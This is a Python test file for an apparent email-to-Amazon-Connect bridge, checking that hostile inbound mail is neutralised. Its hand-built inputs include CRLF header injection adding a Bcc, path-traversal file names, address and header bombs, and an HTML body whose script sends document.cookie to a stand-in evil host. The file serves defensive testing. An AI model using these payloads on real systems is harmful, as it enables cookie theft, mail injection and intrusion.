"""Explicit attacks, one test each: what a hostile sender tries, and exactly what reaches Connect.

Header injection (CR, LF, NUL and other control characters, plain or hidden in RFC 2047 and
RFC 2231 encodings) in every header that reaches the request; path traversal and absurd file
names; thousands of parts; deep nesting; a 40 MB message; HTML with scripts; address, Subject
and Received-header bombs. Each test builds its message by hand, as bytes, so it can say
things no mail library would write.
"""

from __future__ import annotations

import base64
import time
from collections import Counter
from collections.abc import Mapping, Sequence
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from botocore.validate import ParamValidator

from ses_to_connect.attachments import Candidate, store_attachments
from ses_to_connect.convert import UnsignedUrlSink, convert_offline, plan
from ses_to_connect.event_builder import build_ses_event
from ses_to_connect.model import Conversion, Outcome
from ses_to_connect.ses_event import SesRecord, records
from ses_to_connect.settings import BodyPreference, Settings
from ses_to_connect_tools.local_pipeline.connect_emulator import check_start_email_contact
from tests.support.constants import CUSTOMER, FROM, MESSAGE_ID, SALES, SUPPORT
from tests.support.mail import handwritten, mime_head, multipart, part

from . import single_line_fields, start_email_contact_shape
from .strategies import BUCKET, make_settings

if TYPE_CHECKING:
    from mypy_boto3_connect.type_defs import StartEmailContactRequestTypeDef

ENVELOPE_SENDER = "bounces+1234@customer.example"
INJECTED = "Bcc: victim@evil.example"
CRLF = "\r\n"
MB = 1024 * 1024


def settings(*, prefer_reply_to: bool = False) -> Settings:
    return make_settings(BodyPreference.HTML, prefer_reply_to, None, {}, deliver_everything=False)


def b_word(text: str) -> str:
    """``text`` as one RFC 2047 base64 encoded word (any byte may hide inside)."""
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def message(
    headers: Sequence[tuple[str, str]],
    body: str = "Hello there",
    *,
    content_type: str = "text/plain; charset=utf-8",
) -> bytes:
    """``headers``, MIME-Version and one text part, byte for byte."""
    return handwritten([*headers, "MIME-Version: 1.0"], body, content_type=content_type, cte=None)


def with_attachments(parts: Sequence[str], *, subject: str = "Files") -> bytes:
    """multipart/mixed: a short text body, then ``parts``."""
    text = part("text/plain; charset=utf-8", "See attached.")
    return handwritten(mime_head(subject), multipart("mixed", text, *parts, boundary="BOUNDARY"))


def attachment(
    disposition_params: str, content_type: str = "application/pdf", data: bytes = b"%PDF-1.4 x"
) -> str:
    return part(
        content_type,
        base64.encodebytes(data).decode().replace("\n", CRLF),
        f"Content-Disposition: attachment; {disposition_params}",
        "Content-Transfer-Encoding: base64",
    )


def record(raw: bytes, *, recipients: Sequence[str] = (SUPPORT,)) -> SesRecord:
    event = build_ses_event(raw, message_id=MESSAGE_ID, recipients=recipients, source=ENVELOPE_SENDER)
    return records(event)[0]


def run(raw: bytes, config: Settings | None = None, **kwargs: Any) -> Conversion:
    return convert_offline(raw, record(raw, **kwargs), config or settings())


def only_request(conversion: Conversion) -> StartEmailContactRequestTypeDef:
    """The one request of a contact, after checking everything a request must satisfy."""
    assert conversion.outcome is Outcome.CONTACT, conversion
    (request,) = conversion.requests
    check_start_email_contact(request)  # raises what Connect would refuse it with
    assert ParamValidator().validate(request, start_email_contact_shape()).generate_report() == ""
    assert [path for path, value in single_line_fields(request) if "\r" in value or "\n" in value] == []
    extra = request.get("AdditionalRecipients", {})
    recipients = [*extra.get("ToAddresses", []), *extra.get("CcAddresses", [])]
    assert "victim@evil.example" not in [entry["EmailAddress"] for entry in recipients]
    return request


def raw_message(request: Mapping[str, Any]) -> dict[str, Any]:
    value: dict[str, Any] = request["EmailMessage"]["RawMessage"]
    return value


class RecordingSink(UnsignedUrlSink):
    """An attachment sink that records each store: key, file name and decoded size."""

    def __init__(self) -> None:
        super().__init__(BUCKET)
        self.stored: list[tuple[str, str, int]] = []

    def store(self, key: str, candidate: Candidate, data: bytes) -> str:
        self.stored.append((key, candidate.file_name, len(data)))
        return super().store(key, candidate, data) + "?X-Amz-Signature=abc"


# --- header injection ---------------------------------------------------------------------------


def test_crlf_hidden_in_the_from_display_name_stays_in_the_display_name() -> None:
    from_ = b_word("Evil" + CRLF + INJECTED + "\x00\x07") + f" <{CUSTOMER}>"

    request = only_request(run(message([("From", from_), ("To", SUPPORT), ("Subject", "Hi")])))

    assert request["FromEmailAddress"] == {"EmailAddress": CUSTOMER, "DisplayName": f"Evil {INJECTED}"}


def test_control_characters_in_a_quoted_from_display_name_become_single_spaces() -> None:
    from_ = f'"Ev\x01\x02il\x7f Co\x1brp\u2028" <{CUSTOMER}>'

    request = only_request(run(message([("From", from_), ("To", SUPPORT), ("Subject", "Hi")])))

    assert request["FromEmailAddress"] == {"EmailAddress": CUSTOMER, "DisplayName": "Ev il Co rp"}


def test_a_bare_cr_in_the_from_header_ends_it_and_the_envelope_sender_is_used() -> None:
    """A bare CR is a line end to the parser: the From header is cut at it (so it no longer
    holds a valid address) and the rest becomes a header of its own, which no field reads."""
    raw = message([("From", f'"Evil\r{INJECTED}" <{CUSTOMER}>'), ("To", SUPPORT), ("Subject", "Hi")])

    conversion = run(raw)
    request = only_request(conversion)

    assert request["FromEmailAddress"] == {"EmailAddress": ENVELOPE_SENDER}
    assert conversion.defects == ["invalid_address:from", "no_usable_from"]


def test_an_encoded_word_with_a_raw_colon_does_not_displace_the_angle_address() -> None:
    """RFC 2047 forbids ':' and '@' unencoded inside an encoded word in a display name; read as
    written, the text before the ':' is a group's name. The address in angle brackets is still
    the address, and what follows the ':' only a display name, with no line break in it."""
    from_ = f"=?utf-8?q?Evil=0D=0ABcc:_victim@evil.example?= <{CUSTOMER}>"

    request = only_request(run(message([("From", from_), ("To", SUPPORT), ("Subject", "Hi")])))

    assert request["FromEmailAddress"] == {"EmailAddress": CUSTOMER, "DisplayName": "_victim@evil.example?="}


def test_crlf_in_reply_to_does_not_reach_the_customer_address() -> None:
    raw = message(
        [
            ("From", FROM),
            (
                "Reply-To",
                b_word("Forms" + CRLF + INJECTED) + " <reply\x00@example.org>, <replies@example.org>",
            ),
            ("To", SUPPORT),
            ("Subject", "Hi"),
        ]
    )

    conversion = run(raw, settings(prefer_reply_to=True))
    request = only_request(conversion)

    # "reply\x00@example.org" becomes "reply @example.org", which is no address: the next one is used.
    assert request["FromEmailAddress"] == {"EmailAddress": "replies@example.org"}
    assert conversion.defects == ["invalid_address:reply-to"]


def test_crlf_and_controls_in_to_and_cc_display_names_are_flattened() -> None:
    raw = message(
        [
            ("From", FROM),
            ("To", f"{SUPPORT}, " + b_word("Team" + CRLF + INJECTED) + " <team@example.org>"),
            ("Cc", '"C\x00c\x01\x1f" <cc@example.org>, ' + b_word(CRLF + "\t") + " <blank@example.org>"),
            ("Subject", "Hi"),
        ]
    )

    request = only_request(run(raw))

    assert request["AdditionalRecipients"] == {
        "ToAddresses": [{"EmailAddress": "team@example.org", "DisplayName": f"Team {INJECTED}"}],
        "CcAddresses": [
            {"EmailAddress": "cc@example.org", "DisplayName": "C c"},
            {"EmailAddress": "blank@example.org"},
        ],
    }


def test_crlf_and_controls_in_the_subject_are_flattened() -> None:
    subject = f"=?utf-8?q?Hi=0D=0A{INJECTED.replace(' ', '_')}=00=07?= and\x00more\x1b[31m\x7f"

    request = only_request(run(message([("From", FROM), ("To", SUPPORT), ("Subject", subject)])))

    assert raw_message(request)["Subject"] == f"Hi {INJECTED} and more [31m"
    assert request["Name"] == f"Hi {INJECTED} and more [31m"


def test_crlf_and_controls_in_message_id_in_reply_to_and_references_never_reach_the_headers() -> None:
    """Identifiers are cleaned like any header text. What happens to a damaged one: an encoded
    word is decoded even inside ``<...>`` (RFC 2047 allows none there), the CR LF it hides
    becomes a space, the id no longer matches ``<...>``, and the last space-separated piece
    (the word's end and the text after it, which has no space before it) is kept as MESSAGE_ID;
    a NUL in In-Reply-To becomes a space likewise. No line break survives."""
    raw = message(
        [
            ("From", FROM),
            ("To", SUPPORT),
            ("Subject", "Hi"),
            ("Message-ID", "<=?utf-8?q?a=0D=0AX-Evil:_1?=@example.org>"),
            ("In-Reply-To", "<p\x00q@example.org>"),
            ("References", "<r1@example.org>\x0b<r2@example.org> " + b_word(CRLF) + "<r3@example.org>"),
        ]
    )

    request = only_request(run(raw))

    assert raw_message(request)["Headers"] == {
        "MESSAGE_ID": "1@example.org>",
        "IN_REPLY_TO": "<p q@example.org>",
        "REFERENCES": "<r1@example.org> <r2@example.org> <r3@example.org>",
        "X_SES_SPAM_VERDICT": "PASS",
        "X_SES_VIRUS_VERDICT": "PASS",
    }


def test_crlf_and_nul_in_attachment_names_are_flattened() -> None:
    raw = with_attachments(
        [
            attachment('filename="' + b_word("in" + CRLF + "voice.pdf") + '"'),
            attachment("filename*=utf-8''x%0D%0AX-Evil%3A%201.pdf"),
            attachment('filename="evil\x00.pdf"'),
            attachment('filename="evil.pdf\x00.exe"'),
        ]
    )

    conversion = convert_offline(raw, record(raw), settings(), RecordingSink())
    request = only_request(conversion)

    assert [item["FileName"] for item in request["Attachments"]] == [
        "in voice.pdf",
        "x X-Evil: 1.pdf",
        "evil .pdf",
    ]
    assert request["Attributes"]["sesAttachmentsSkipped"] == "evil.pdf .exe (type_not_allowed)"


def test_invisible_and_unassigned_characters_leave_attachment_names() -> None:
    """Connect refuses a file name with any Unicode "other" character (pattern ``^\\P{C}*$`` in
    its model), not only C0/C1 controls: a right-to-left override (U+202E), a zero-width space,
    private-use and unassigned code points."""
    names = ["invoice\u202efdp.pdf", "zero\u200bwidth.pdf", "private\ue000use.pdf", "unassigned\u0378.pdf"]
    raw = with_attachments([attachment("filename*=utf-8''" + quote(name)) for name in names])

    request = only_request(convert_offline(raw, record(raw), settings(), RecordingSink()))

    assert [item["FileName"] for item in request["Attachments"]] == [
        "invoicefdp.pdf",
        "zerowidth.pdf",
        "privateuse.pdf",
        "unassigned.pdf",
    ]


# --- attachment names ---------------------------------------------------------------------------


def test_traversal_and_absurd_attachment_names_become_plain_names_and_safe_keys() -> None:
    raw = with_attachments(
        [
            attachment(f'filename="{"a" * 10_000}.pdf"'),
            attachment('filename="../../../etc/passwd.pdf"'),
            attachment('filename="..\\\\..\\\\boot.ini.txt"', "text/plain"),
            attachment('filename="../../.."'),
            attachment('filename="...."', "text/plain"),
            attachment('filename="/////"', "application/octet-stream"),
            attachment('filename="./.\\./"', "image/png", b"\x89PNG\r\n\x1a\n"),
            attachment('filename="scan\x00.pdf"'),
        ]
    )
    sink = RecordingSink()

    request = only_request(convert_offline(raw, record(raw), settings(), sink))

    assert [item["FileName"] for item in request["Attachments"]] == [
        "a" * 252 + ".pdf",
        "passwd.pdf",
        "boot.ini.txt",
        "attachment.pdf",
        "attachment.txt",
        "attachment.png",
        "scan .pdf",
    ]
    # Storage keys never use the sender's name: position and extension only.
    prefix = f"attachments/{MESSAGE_ID}/"
    assert [key for key, _, _ in sink.stored] == [
        f"{prefix}00.pdf",
        f"{prefix}01.pdf",
        f"{prefix}02.txt",
        f"{prefix}03.pdf",
        f"{prefix}04.txt",
        f"{prefix}05.png",
        f"{prefix}06.pdf",
    ]
    assert request["Attributes"]["sesAttachmentsSkipped"] == "attachment (type_not_allowed)"


# --- sheer size ---------------------------------------------------------------------------------


def test_5000_parts_finish_quickly_with_at_most_10_attachments_sent() -> None:
    parts = [
        attachment(f'filename="file{i}.pdf"') if i % 2 else attachment(f'filename="file{i}.bin"', "x/y")
        for i in range(5000)
    ]
    raw = with_attachments(parts)
    ses_record = record(raw)

    start = time.perf_counter()
    conversion = convert_offline(raw, ses_record, settings())
    elapsed = time.perf_counter() - start

    assert elapsed < 30
    request = only_request(conversion)
    assert [item["FileName"] for item in request["Attachments"]] == [f"file{i}.pdf" for i in range(1, 20, 2)]
    assert request["Attributes"]["sesAttachmentsSent"] == "10"
    planned = plan(raw, ses_record, settings())
    sent, skipped = store_attachments(planned.candidates, RecordingSink(), planned.attachment_prefix)
    reasons = Counter(item.reason for item in [*planned.skipped, *skipped])
    assert (len(sent), reasons) == (10, Counter({"type_not_allowed": 2500, "too_many": 2490}))


def nested_multiparts(levels: int) -> bytes:
    lines = [f"From: {FROM}", f"To: {SUPPORT}", "Subject: Deep", "MIME-Version: 1.0"]
    for level in range(levels):
        lines += [f'Content-Type: multipart/mixed; boundary="b{level}"', "", f"--b{level}"]
    lines += ["Content-Type: text/plain", "", "the innermost text"]
    lines += [f"--b{level}--" for level in reversed(range(levels))]
    return "\r\n".join(lines).encode()


def nested_forwards(levels: int) -> bytes:
    inner = (
        b"From: first@example.org\r\nSubject: innermost\r\nContent-Type: text/plain\r\n\r\nthe first mail\r\n"
    )
    for level in range(levels):
        inner = (
            b"From: fwd@example.org\r\nSubject: Fwd %d\r\nContent-Type: message/rfc822\r\n\r\n" % level
            + inner
        )
    head = f"From: {FROM}\r\nTo: {SUPPORT}\r\nSubject: Deep forward\r\n".encode()
    return (
        head + b'Content-Type: multipart/mixed; boundary="q"\r\n\r\n--q\r\nContent-Type: text/plain\r\n\r\n'
        b"outer text\r\n--q\r\n" + inner + b"--q--\r\n"
    )


def test_200_nested_multiparts_parse_without_recursion_error() -> None:
    """What happens: the innermost text is found and becomes the body; nothing else is there."""
    conversion = run(nested_multiparts(200))

    request = only_request(conversion)
    assert raw_message(request)["Body"] == "the innermost text"
    assert "Attachments" not in request
    assert conversion.defects == []


def test_200_nested_forwarded_messages_parse_without_recursion_error() -> None:
    """What happens: the outer text, then each forwarded message under its heading, as a mail client
    shows inline forwards; each also becomes a .txt named after the subject of the message it
    carries, the first 10 are sent, the other 190 skipped."""
    sink = RecordingSink()
    raw = nested_forwards(200)

    request = only_request(convert_offline(raw, record(raw), settings(), sink))

    body = raw_message(request)["Body"]
    assert body.startswith("outer text\n\n----\n\n---------- Forwarded message ----------\n")
    assert body.count("---------- Forwarded message ----------") == 200
    assert body.endswith("- Fwd 169.txt: more than 10 attachments\n- … and 170 more")
    assert [item["FileName"] for item in request["Attachments"]] == [
        f"Fwd {n}.txt" for n in range(198, 188, -1)
    ]
    assert request["Attributes"]["sesAttachmentsSkipped"].startswith("Fwd 188.txt (too_many); Fwd 187.txt")


@pytest.mark.parametrize(
    ("build", "subject"),
    [(nested_multiparts, "Deep"), (nested_forwards, "Deep forward")],
    ids=["multipart", "rfc822"],
)
def test_1500_nested_levels_become_a_contact_that_points_at_the_raw_message(build: Any, subject: str) -> None:
    """1,500 levels is a 60 KB message, well inside SES's 40 MB, and past the depth at which the
    stdlib feed parser (one recursion per level) raises RecursionError. Found by this test; now
    the message keeps its headers, gets the placeholder body that names the raw message in S3,
    and records ``too_deeply_nested``."""
    conversion = run(build(1500))

    request = only_request(conversion)
    assert request["FromEmailAddress"] == {"EmailAddress": CUSTOMER, "DisplayName": "Customer"}
    assert raw_message(request)["Subject"] == subject
    assert raw_message(request)["Body"].startswith("[This email has no readable text body.")
    assert "Attachments" not in request
    assert conversion.defects == ["too_deeply_nested", "no_text_body"]


def test_a_40_mb_message_converts_and_skips_what_connect_cannot_take() -> None:
    big = bytes(range(256)) * (24 * MB // 256)  # 24 MiB: over Connect's 20 MB per attachment
    photo = b"\xff\xd8\xff\xe0" + bytes(4 * MB)  # 4 MiB + 4 bytes: sent
    raw = with_attachments(
        [
            attachment('filename="scan.pdf"', data=big),
            attachment('filename="photo.jpg"', "image/jpeg", photo),
        ]
    )
    assert 38 * MB < len(raw) < 40 * MB
    sink = RecordingSink()

    request = only_request(convert_offline(raw, record(raw), settings(), sink))

    assert [item["FileName"] for item in request["Attachments"]] == ["photo.jpg"]
    assert sink.stored == [(f"attachments/{MESSAGE_ID}/01.jpg", "photo.jpg", len(photo))]
    assert request["Attributes"]["sesAttachmentsSkipped"] == "scan.pdf (too_large)"
    assert raw_message(request)["Body"] == (
        "See attached.\n\n----\nNot delivered with this email (the stored original has them):\n"
        "- scan.pdf: larger than 20 MB"
    )


def test_html_with_scripts_and_event_handlers_keeps_only_what_presents() -> None:
    """Whether Connect's viewer sanitizes is not documented, so the
    bridge removes what acts (html_clean.py); the raw message stays in S3 as evidence."""
    html = (
        "<html><body><p onclick=\"alert('x')\" onmouseover=steal()>Hello</p>"
        "<img src=x onerror=alert(1)><script>fetch('https://evil.example/'+document.cookie)</script>"
        '<a href="javascript:alert(2)">link</a><iframe src="https://evil.example"></iframe></body></html>'
    )
    raw = message(
        [("From", FROM), ("To", SUPPORT), ("Subject", "Hi")], html, content_type="text/html; charset=utf-8"
    )

    request = only_request(run(raw))

    assert (
        raw_message(request)["Body"] == "<html><head></head><body><p>Hello</p><img><a>link</a></body></html>"
    )
    assert raw_message(request)["ContentType"] == "text/html"


@pytest.mark.parametrize("unit", [",", "<", ">", "<>,", "("], ids=["commas", "lt", "gt", "angles", "parens"])
def test_an_address_header_with_100000_separators_completes(unit: str) -> None:
    raw = message(
        [("From", FROM), ("To", f"{SUPPORT}, {unit * 100_000}, other@example.org"), ("Subject", "Bomb")]
    )

    start = time.perf_counter()
    conversion = run(raw)
    elapsed = time.perf_counter() - start

    assert elapsed < 30
    request = only_request(conversion)
    assert request["FromEmailAddress"] == {"EmailAddress": CUSTOMER, "DisplayName": "Customer"}
    assert raw_message(request)["Subject"] == "Bomb"


def test_a_from_header_of_100000_angle_brackets_still_yields_the_customer() -> None:
    raw = message([("From", FROM + "<" * 100_000), ("To", SUPPORT), ("Subject", "Bomb")])

    request = only_request(run(raw))

    assert request["FromEmailAddress"] == {"EmailAddress": CUSTOMER, "DisplayName": "Customer"}


def test_a_1_mb_subject_is_cut_to_998_characters() -> None:
    conversion = run(message([("From", FROM), ("To", SUPPORT), ("Subject", "S" * MB)]))

    request = only_request(conversion)
    assert raw_message(request)["Subject"] == "S" * 998
    assert request["Name"] == "S" * 998
    assert "subject_truncated" in conversion.defects


def test_a_1_mb_subject_folded_over_thousands_of_lines_is_unfolded_and_cut() -> None:
    subject = "\r\n ".join(["word" * 20] * 13_000)  # 1 MB over 13,000 lines

    conversion = run(message([("From", FROM), ("To", SUPPORT), ("Subject", subject)]))

    assert raw_message(only_request(conversion))["Subject"] == ("word" * 20 + " ") * 12 + "word" * 6 + "wo"
    assert "subject_truncated" in conversion.defects


def test_10000_received_headers() -> None:
    received = [
        ("Received", f"from relay{i}.example.net by mx.example.com; Tue, 1 Apr 2025") for i in range(10_000)
    ]
    raw = message([*received, ("From", FROM), ("To", SUPPORT), ("Subject", "Hops")])

    start = time.perf_counter()
    conversion = run(raw)
    elapsed = time.perf_counter() - start

    assert elapsed < 30
    request = only_request(conversion)
    assert raw_message(request)["Subject"] == "Hops"
    assert conversion.defects == []


# --- broken encodings found by the property tests ----------------------------------------------


@pytest.mark.parametrize("header", ["Subject", "From", "To", "Message-ID"])
def test_an_encoded_word_with_broken_base64_is_kept_as_written(header: str) -> None:
    """Found by ``test_the_event_built_from_any_message_converts``: ``=?utf-8?b?A?=`` makes
    ``email.header.decode_header`` raise ``HeaderParseError``, which is not a ValueError."""
    values = {"From": FROM, "To": SUPPORT, "Subject": "Hi"}
    values[header] = "=?utf-8?b?A?= " + {"From": f"<{CUSTOMER}>", "To": f"<{SALES}>"}.get(header, "x")
    raw = message(list(values.items()))

    conversion = run(raw)

    assert conversion.outcome is Outcome.CONTACT
    assert f"undecodable_header:{header.lower()}" in conversion.defects


def test_an_encoded_word_with_an_8bit_charset_name_is_kept_as_written() -> None:
    """Found by ``test_chunked_input_converts_exactly_like_whole_input`` (long run):
    ``make_header`` raises ``email.errors.CharsetError`` for a charset name it cannot encode."""
    raw = message([("From", FROM), ("To", SUPPORT), ("Subject", "=?\x80utf-8?q?x?= tail")])

    conversion = run(raw)

    assert conversion.outcome is Outcome.CONTACT
    assert "undecodable_header:subject" in conversion.defects


def test_a_charset_name_with_a_nul_falls_back_like_any_unknown_charset() -> None:
    """Found by ``test_any_message_becomes_valid_requests_or_a_quarantine`` (long run, corpus
    mutation): ``codecs.lookup`` raises ValueError, not LookupError, for a name with a NUL."""
    raw = message(
        [("From", FROM), ("To", SUPPORT), ("Subject", "Hi")], content_type='text/plain; charset="utf\x00-8"'
    )

    conversion = run(raw)

    assert raw_message(only_request(conversion))["Body"] == "Hello there"
    assert "unknown_charset:utf -8" in conversion.defects  # defect details carry no control characters


@pytest.mark.parametrize(
    ("charset", "body"),
    [("undefined", "Hello there"), ("idna", "Hello there.xn--"), ("punycode", "Hello there")],
)
def test_a_text_codec_that_cannot_decode_falls_back_like_a_wrong_charset(charset: str, body: str) -> None:
    """Found by the property tests: these codecs raise a bare ``UnicodeError`` (not
    ``UnicodeDecodeError``) on text they cannot decode (``undefined`` on any text at all), and
    all three are registered text codecs, so ``codecs.lookup`` accepts them as charsets."""
    raw = message(
        [("From", FROM), ("To", SUPPORT), ("Subject", "Hi")],
        body,
        content_type=f"text/plain; charset={charset}",
    )

    conversion = run(raw)

    assert raw_message(only_request(conversion))["Body"] == body
    assert {f"unknown_charset:{charset}", f"charset_mismatch:{charset}"} & set(conversion.defects)


@pytest.mark.parametrize(
    "charset", ["charset=idna", "charset=undefined", "charset*=utf-8''utf-8", 'charset="utf\x00-8"']
)
def test_an_8bit_attachment_with_an_odd_charset_parameter_is_still_sent(charset: str) -> None:
    """Found by the property tests (``fuzz-debug`` and the long run): for an 8-bit payload,
    ``Message.get_payload()`` without ``decode=True`` decodes it with ``get_param("charset")`` and
    ``errors="replace"``: the ``idna`` and ``undefined`` codecs answer with a bare ``UnicodeError``,
    an RFC 2231 ``charset*=`` parameter comes back as a tuple (``TypeError``) and a name with a
    NUL makes the codec lookup raise ``ValueError``; the stdlib catches only ``LookupError``."""
    pdf = (
        f"Content-Type: application/pdf; {charset}\r\n"
        'Content-Disposition: attachment; filename="scan.pdf"\r\n'
        "Content-Transfer-Encoding: 8bit\r\n\r\n"
        "%PDF-1.4 \udc80\udcff"  # two raw 8-bit bytes (written through surrogateescape)
    )
    raw = with_attachments([pdf])
    sink = RecordingSink()

    request = only_request(convert_offline(raw, record(raw), settings(), sink))

    assert [item["FileName"] for item in request["Attachments"]] == ["scan.pdf"]
    assert sink.stored == [(f"attachments/{MESSAGE_ID}/00.pdf", "scan.pdf", 11)]


@pytest.mark.parametrize("charset", ["idna", "undefined"])
def test_a_base64_forwarded_message_whose_part_names_a_codec_that_cannot_decode_still_converts(
    charset: str,
) -> None:
    """Found by the long fuzz run: the repair of base64 message/rfc822 read the inner payload with
    ``get_payload()``, which decodes 8-bit text with the part's charset and raised a bare
    ``UnicodeError`` for these codecs."""
    raw = message(
        [("From", FROM), ("To", SUPPORT), ("Subject", "Fwd"), ("Content-Transfer-Encoding", "base64")],
        f"Content-Type: application/pdf; charset={charset}\r\nContent-Transfer-Encoding: 7bit\r\n\r\n\udc80",
        content_type="message/rfc822",
    )

    conversion = run(raw)

    assert conversion.outcome == "contact"
    assert "encoded_forwarded_message:base64" not in conversion.defects
